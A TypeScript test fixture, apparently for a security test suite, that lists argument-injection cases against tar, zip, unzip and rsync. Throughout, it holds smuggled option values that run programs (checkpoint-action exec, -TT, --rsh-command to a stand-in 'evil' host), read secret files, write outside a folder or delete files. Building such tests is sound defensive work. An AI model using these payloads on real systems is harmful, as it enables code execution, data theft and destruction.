import { hookIn, write } from './attacks-files.ts';
import { type Attack, type Box, by, file } from './attacks-kind.ts';

const touch = (box: Box) => `touch ${box.canary}`;
const program = (box: Box) => `${box.work}/run`;
const withProgram = { prepare: (box: Box) => hookIn(box.work, 'run', box) };

/** Options of tar that run a program or reach a file, as a value that takes the place of a member. */
const tarOptions: readonly (readonly [string, (box: Box) => readonly string[]])[] = [
  ['--checkpoint-action', (box) => ['--checkpoint=1', `--checkpoint-action=exec=${touch(box)}`]],
  ['an abbreviation of it', (box) => ['--checkpoint=1', `--checkpoint-a=exec=${touch(box)}`]],
  ['--use-compress-program', (box) => [`--use-compress-program=${program(box)}`]],
  ['-I', (box) => [`-I${program(box)}`]],
  ['--to-command', (box) => [`--to-command=${touch(box)};cat`]],
  ['--info-script', (box) => ['-L1', '-M', `--info-script=${program(box)}`]],
  ['-F', (box) => ['-L1', '-M', `-F${program(box)}`]],
  ['--index-file', (box) => ['-v', `--index-file=${box.canary}`]],
  ['--files-from', (box) => [`--files-from=${box.secret}`]],
  ['-T', (box) => [`-T${box.secret}`]],
  ['--exclude-from', (box) => ['--rsh-command', program(box), '--no-force-local', `--file=evil:x`]],
];

const tar: readonly Attack[] = [
  ...tarOptions.flatMap(([name, values]) => [
    by('tar', `create: ${name}`, withProgram)`-cf ${file('new.tar')} ${values} ${file('a.txt')}`,
    by('tar', `extract: ${name}`, withProgram)`-xf ${file('plain.tar')} ${values}`,
    by('tar', `list: ${name}`, withProgram)`-tf ${file('plain.tar')} ${values}`,
  ]),
  by(
    'tar',
    'an archive of another machine, fetched by rsh',
    withProgram,
  )`-xf ${'evil:x.tar'} ${(box) => `--rsh-command=${program(box)}`}`,
  by(
    'tar',
    'the name in one value',
    withProgram,
  )`-tf ${(box) => `--rsh-command=${program(box)}`} -f evil:x.tar`,
  by('tar', 'an archive anywhere')`-cf ${(box) => box.canary} a.txt`,
  by('tar', 'a file from anywhere')`-cf ${file('new.tar')} ${(box) => box.secret}`,
  by('tar', 'the same by ..')`-cf ${file('new.tar')} ${'../secret.txt'}`,
  by(
    'tar',
    'the same from another folder',
  )`-cf ${file('new.tar')} ${['-C/', (box: Box) => box.secret.slice(1)]}`,
  by('tar', 'to standard output')`-cf - ${'../secret.txt'}`,
  by(
    'tar',
    'files are removed, --remove-files',
  )`-cf ${file('new.tar')} ${'--remove-files'} ${'../victim.txt'}`,
  by('tar', 'another folder to extract to')`-xf ${file('canary.tar')} -C ${'..'}`,
  by('tar', 'the same by an option')`-xf ${file('canary.tar')} ${'-C..'}`,
  by(
    'tar',
    'names are rewritten, --transform',
  )`-xf ${file('plain.tar')} ${'--transform=s,.*,../canary,'} ${'-P'}`,
  by(
    'tar',
    'incremental state is written anywhere',
  )`-cf ${file('new.tar')} ${(box) => `-g${box.canary}`} a.txt`,
  by(
    'tar',
    'volume numbers are written anywhere',
  )`-cf ${file('new.tar')} ${(box) => `--volno-file=${box.canary}`} -M -L1000 a.txt`,
  by(
    'tar',
    'a filter of the archive',
    withProgram,
  )`-xf ${file('plain.tar')} ${(box) => `--filter=${program(box)}`}`,
  by(
    'tar',
    'the old form of -I',
    withProgram,
  )`-xf ${file('plain.tar')} ${(box) => `--use-compress=${program(box)}`}`,
  by('tar', 'a value in the first place', withProgram)`${(box) => `-xI${program(box)}`} -f plain.tar`,
  by('tar', 'overwrites what is there')`-xf ${file('canary.tar')} ${['--overwrite', '--directory=..']}`,
  by('tar', 'unlinks what is there')`-xf ${file('victim.tar')} ${['--recursive-unlink', '--directory=..']}`,
];

const zip: readonly Attack[] = [
  by(
    'zip',
    '-TT runs a program, zip(1)',
  )`-q ${file('new.zip')} ${['a.txt', '-T', (box: Box) => `-TT${touch(box)} #`]}`,
  by(
    'zip',
    'the same in full',
  )`-q ${file('new.zip')} ${['a.txt', '-T', (box: Box) => `--unzip-command=${touch(box)} #`]}`,
  by(
    'zip',
    'the same as two words',
  )`-q ${file('new.zip')} ${['a.txt', '-T', '-TT', (box: Box) => `${touch(box)} #`]}`,
  by('zip', 'the same in front')`${['-T', (box: Box) => `-TT${touch(box)} #`]} ${file('new.zip')} a.txt`,
  by('zip', 'files are moved into the archive, -m')`-q ${file('new.zip')} ${'-m'} ${'../victim.txt'}`,
  by('zip', 'a file from anywhere')`-q - ${(box) => box.secret} -0`,
  by('zip', 'a file by ..')`-q -0 - ${'../secret.txt'}`,
  by(
    'zip',
    'a pattern that matches more, zip(1) -R',
  )`-q -0 - ${'-R'} ${'*'} ${'-i'} ${'../secret.txt'} ../secret.txt`,
  by('zip', 'an archive anywhere')`-q ${(box) => box.canary} a.txt -A`,
  by('zip', 'output anywhere, --out')`-q plain.zip ${(box) => `--out=${box.canary}`}`,
  by('zip', 'the same, short')`-q plain.zip ${['-O', (box: Box) => box.canary]}`,
  by('zip', 'a log anywhere')`-q ${file('new.zip')} a.txt ${['-li', '-la', '-lf', (box: Box) => box.canary]}`,
  by('zip', 'links are followed by default')`-q -0 - ${'../secret.txt'} ${'-r'}`,
  by('zip', 'standard output is the archive')`-q -0 ${'-'} ${(box) => box.secret}`,
  by('zip', 'entries are deleted')`-q -d ${'../victim.zip'} ${'*'}`,
];

const unzip: readonly Attack[] = [
  by('unzip', 'another folder, -d')`-q -o ${file('canary.zip')} ${['-d', '..']}`,
  by('unzip', 'the same in one word')`-q -o ${file('canary.zip')} ${'-d..'}`,
  by('unzip', 'any folder')`-q -o ${file('canary.zip')} -d ${'..'}`,
  by('unzip', 'an archive anywhere')`-p ${'../private.zip'}`,
  by('unzip', 'a pattern of archives')`-p ${'../priv*'}`,
  by('unzip', '../ is let through, -:')`-q -o ${'-:'} ${file('up.zip')}`,
  by('unzip', 'the same behind the archive')`-q -o up.zip ${'-:'}`,
  by('unzip', 'options in a cluster')`${'-qo:'} up.zip`,
];

const rsyncValues: readonly (readonly [string, (box: Box) => readonly string[]])[] = [
  ['-e runs a program, CWE-88', (box) => [`-e${program(box)}`, 'evil:x']],
  ['--rsh', (box) => [`--rsh=${program(box)}`, 'evil:x']],
  ['an abbreviation of it', (box) => [`--rs=${program(box)}`, 'evil:x']],
  ['-e in a cluster', (box) => [`-are${program(box)}`, 'evil:x']],
  ['-e and its value apart', (box) => ['-e', program(box), 'evil:x']],
  ['--rsync-path', (box) => [`--rsync-path=${program(box)}`, `--rsh=${program(box)}`, 'evil:x']],
  ['a daemon, host::module', (box) => [`--port=${box.port}`, '127.0.0.1::x']],
  ['a daemon by URL', (box) => [`rsync://127.0.0.1:${box.port}/x`]],
  ['--log-file', (box) => [`--log-file=${box.canary}`, 'a.txt']],
  ['--write-batch', (box) => [`--write-batch=${box.canary}`, 'a.txt']],
  ['--only-write-batch', (box) => [`--only-write-batch=${box.canary}`, 'a.txt']],
  ['--files-from', (box) => [`--files-from=${box.secret}`, '.']],
  ['--include-from', (box) => [`--include-from=${box.secret}`, '-vvv', 'a.txt']],
  ['--exclude-from', (box) => [`--exclude-from=${box.secret}`, '-vvv', 'a.txt']],
  ['--filter', (box) => [`--filter=merge ${box.secret}`, 'a.txt']],
  ['-f', (box) => [`-f. ${box.secret}`, 'a.txt']],
  ['--remove-source-files', () => ['--remove-source-files', '../victim.txt']],
  ['a file from anywhere', (box) => [box.secret]],
  ['a file by ..', () => ['../secret.txt']],
  [
    '--password-file with a daemon',
    (box) => [`--password-file=${box.secret}`, `rsync://u@127.0.0.1:${box.port}/x`],
  ],
  ['--backup-dir', (box) => ['-b', `--backup-dir=${box.canary}`, 'a.txt', '--suffix=x']],
  ['--copy-links', () => ['--copy-links', 'link.txt']],
  ['--relative', (box) => ['-R', box.secret]],
];

const rsync: readonly Attack[] = [
  ...rsyncValues.map(
    ([because, values]) =>
      by('rsync', because, {
        prepare: (box) => {
          hookIn(box.work, 'run', box);
          write(box, 'into/a.txt', 'old');
        },
      })`-r ${values} ${file('into')}`,
  ),
  by('rsync', 'any folder to write to')`-r ${file('a.txt')} ${(box) => box.canary}`,
  by(
    'rsync',
    'another machine to write to',
  )`-r ${file('a.txt')} ${(box) => `rsync://127.0.0.1:${box.port}/x`}`,
  by(
    'rsync',
    'an empty folder in place of another deletes it, --delete',
  )`-r ${file('empty')}/ ${['--delete', '..']}`,
];

export const archiveAttacks: readonly Attack[] = [...tar, ...zip, ...unzip, ...rsync];
